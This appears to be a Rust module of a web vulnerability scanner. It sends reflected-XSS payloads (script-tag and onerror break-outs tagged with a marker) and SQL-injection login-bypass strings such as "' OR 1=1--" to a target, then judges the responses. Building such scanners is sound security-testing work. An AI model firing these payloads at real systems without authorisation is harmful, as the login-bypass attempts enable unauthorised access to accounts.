//! Reflection checks: reflected XSS and the login-bypass SQLi variant.
//!
//! Both send a crafted value and search the response body for evidence. The
//! XSS probe looks for its own payload echoed back verbatim; the login probe
//! looks for post-login keywords.

use async_trait::async_trait;
use reqwest::{Client, Url};
use uuid::Uuid;

use super::http::classify;
use super::{Probe, StrategyKind};
use crate::{TransportError, Verdict};

/// Query parameter carrying the XSS payload when none is given.
pub const DEFAULT_XSS_PARAM: &str = "xss_test";

/// Password sent alongside every login-bypass payload.
pub const BYPASS_PASSWORD: &str = "anypassword";

/// Login-bypass payloads, tried in this order.
pub const SQLI_PAYLOADS: [&str; 4] = ["' OR 1=1--", "' OR '1'='1'--", "admin'--", "' OR '1'='1"];

/// Body keywords taken as evidence of a successful login.
pub const BYPASS_KEYWORDS: [&str; 2] = ["Welcome", "Dashboard"];

/// URL and body of one reflection request.
#[derive(Debug, Clone)]
pub struct ReflectionResponse {
    pub url: String,
    pub body: String,
}

async fn read_body(request: reqwest::RequestBuilder, url: String) -> Result<ReflectionResponse, TransportError> {
    let response = request.send().await.map_err(classify)?;
    let body = response.text().await.map_err(classify)?;
    Ok(ReflectionResponse { url, body })
}

fn transport_verdict(err: &TransportError) -> Verdict {
    if err.is_timeout() {
        Verdict::timeout("Request timed out.")
    } else {
        Verdict::error(format!("An error occurred: {err}"))
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Reflected XSS
// ─────────────────────────────────────────────────────────────────────────────

/// Appends a marker-tagged payload as a query parameter and reports it as
/// reflected when the body contains it unmodified.
#[derive(Debug, Clone)]
pub struct ReflectedXssProbe {
    client: Client,
    url: Url,
    param: String,
    marker: String,
}

impl ReflectedXssProbe {
    /// A fresh `XSS_TEST_<hex>` marker is drawn per probe, so concurrent
    /// sessions never confuse each other's reflections.
    pub fn new(client: Client, url: Url, param: impl Into<String>) -> Self {
        let id = Uuid::new_v4().simple().to_string();
        Self {
            client,
            url,
            param: param.into(),
            marker: format!("XSS_TEST_{}", &id[..8]),
        }
    }

    pub fn marker(&self) -> &str {
        &self.marker
    }

    /// Payloads for this probe's marker: a script tag and an attribute
    /// break-out.
    pub fn payloads(&self) -> Vec<String> {
        vec![
            format!("<script>alert('{}')</script>", self.marker),
            format!("\"><img src=x onerror=alert('{}')>", self.marker),
        ]
    }

    /// Target URL with `payload` appended under the probe's parameter.
    /// Uses `&` when the URL already carries a query, `?` otherwise.
    pub fn test_url(&self, payload: &str) -> Url {
        let mut url = self.url.clone();
        url.query_pairs_mut().append_pair(&self.param, payload);
        url
    }
}

#[async_trait]
impl Probe for ReflectedXssProbe {
    type Candidate = String;
    type Response = ReflectionResponse;

    fn kind(&self) -> StrategyKind {
        StrategyKind::Xss
    }

    async fn attempt(&self, payload: &String) -> Result<ReflectionResponse, TransportError> {
        let url = self.test_url(payload);
        let request = self.client.get(url.clone());
        read_body(request, url.to_string()).await
    }

    fn judge(&self, payload: &String, result: Result<ReflectionResponse, TransportError>) -> Verdict {
        match result {
            Ok(r) if r.body.contains(payload.as_str()) => Verdict::positive(format!(
                "Reflected XSS vulnerability found! Test URL: {}",
                r.url
            )),
            Ok(r) => Verdict::negative(format!("Payload not reflected: {}", r.url)),
            Err(e) => transport_verdict(&e),
        }
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Login bypass (SQLi)
// ─────────────────────────────────────────────────────────────────────────────

/// Posts each payload as the username of a login form.
#[derive(Debug, Clone)]
pub struct LoginBypassProbe {
    client: Client,
    url: Url,
    username_field: String,
    password_field: String,
}

impl LoginBypassProbe {
    pub fn new(
        client: Client,
        url: Url,
        username_field: impl Into<String>,
        password_field: impl Into<String>,
    ) -> Self {
        Self {
            client,
            url,
            username_field: username_field.into(),
            password_field: password_field.into(),
        }
    }

    pub fn payloads() -> Vec<String> {
        SQLI_PAYLOADS.iter().map(|p| p.to_string()).collect()
    }
}

#[async_trait]
impl Probe for LoginBypassProbe {
    type Candidate = String;
    type Response = ReflectionResponse;

    fn kind(&self) -> StrategyKind {
        StrategyKind::Sqli
    }

    async fn attempt(&self, payload: &String) -> Result<ReflectionResponse, TransportError> {
        let form = [
            (self.username_field.as_str(), payload.as_str()),
            (self.password_field.as_str(), BYPASS_PASSWORD),
        ];
        let request = self.client.post(self.url.clone()).form(&form);
        read_body(request, self.url.to_string()).await
    }

    fn judge(&self, payload: &String, result: Result<ReflectionResponse, TransportError>) -> Verdict {
        match result {
            Ok(r) if BYPASS_KEYWORDS.iter().any(|k| r.body.contains(k)) => Verdict::positive(
                format!("Possible SQL injection vulnerability found with payload: {payload}"),
            ),
            Ok(_) => Verdict::negative(format!("Login rejected payload: {payload}")),
            Err(e) => transport_verdict(&e),
        }
    }
}
